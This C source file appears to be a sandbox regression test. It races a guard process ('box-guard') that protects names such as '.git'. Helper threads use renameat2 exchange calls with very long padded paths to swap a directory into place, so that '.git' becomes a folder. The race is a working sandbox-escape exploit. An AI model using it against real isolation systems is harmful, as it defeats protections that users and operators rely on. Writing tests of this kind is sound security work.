/*
 * A race against the guard of protected names, which writes a ".git" that is a file under a name of
 * its own beside it, and renames that: some threads let a folder change places with what has this
 * name, while the first makes such files.
 *
 *     own-name FOLDER MILLISECONDS
 *
 * Status 0 and "SUCCEEDED": FOLDER/.git became that folder; 1: never; 2: the race does not work
 * here.
 */
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "race.h"

#define RENAME_SWAP 2 /* RENAME_EXCHANGE */
#define GUARD "box-guard"
#define GUARDS_MAX 64
#define SWAPPERS 6
#define LOOKS 200
/* Parts of a path that is so long that a call with it is under way while the guard writes. */
#define DETOURS 1000
#define DETOUR "./"

static volatile int guards[GUARDS_MAX], guard_count;

static int is_guard(const char *number)
{
    char path[300], name[sizeof GUARD] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", number);
    int fd = open(path, O_RDONLY);
    ssize_t length = fd < 0 ? -1 : read(fd, name, sizeof name - 1);
    if (fd >= 0)
        close(fd);
    return length > 0 && !strcmp(name, GUARD);
}

/* The name has the number of a guard's process. */
static void find_guards(void)
{
    int count = 0;
    DIR *processes = opendir("/proc");
    for (struct dirent *each; processes && (each = readdir(processes)) && count < GUARDS_MAX;) {
        if (is_guard(each->d_name))
            guards[count++] = atoi(each->d_name);
    }
    if (processes)
        closedir(processes);
    guard_count = count;
}

static void *swap(void *unused)
{
    char from[DETOURS * (sizeof DETOUR - 1) + 8] = "", to[64];
    for (int i = 0; i < DETOURS; i++)
        strcat(from, DETOUR);
    strcat(from, "evil");
    for (unsigned i = 0;; i++) {
        snprintf(to, sizeof to, "config.litterbox-%d", guards[i % (unsigned)guard_count]);
        syscall(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, to, RENAME_SWAP);
    }
    return unused;
}

/* What stands at the name in the end: 0, or -1 for nothing. It is written when it is closed. */
static int make(struct stat *st)
{
    static const char text[] = "gitdir: ../.git/modules/x\n";
    int fd = open(".git", O_WRONLY | O_CREAT, 0600), found = -1;
    if (fd < 0 || write(fd, text, sizeof text - 1) < 0)
        return -1;
    close(fd);
    for (int i = 0; i < LOOKS && found < 0; i++) {
        found = lstat(".git", st);
        usleep(10);
    }
    return found;
}

static int race(int ms)
{
    int64_t start = race_now();
    long tries = 0, made = 0;
    for (; race_now() - start < ms || (made <= RACE_SIDE_MIN && race_now() - start < RACE_LIMIT_MS);
         tries++) {
        struct stat st;
        int found = make(&st);
        if (found == 0 && S_ISDIR(st.st_mode)) {
            printf("SUCCEEDED after %ld tries\n", tries + 1);
            return 0;
        }
        made += found == 0;
        unlink(".git");
        find_guards();
    }
    printf("refused: %ld tries, %ld files made\n", tries, made);
    return made > RACE_SIDE_MIN ? 1 : 2;
}

int main(int argc, char **argv)
{
    pthread_t thread;
    if (argc != 3 || chdir(argv[1]) < 0 || mkdir("evil", 0700) < 0)
        return 2;
    find_guards();
    for (int i = 0; guard_count && i < SWAPPERS; i++) {
        if (pthread_create(&thread, NULL, swap, NULL) != 0)
            return 2;
    }
    return guard_count ? race(atoi(argv[2])) : 2;
}
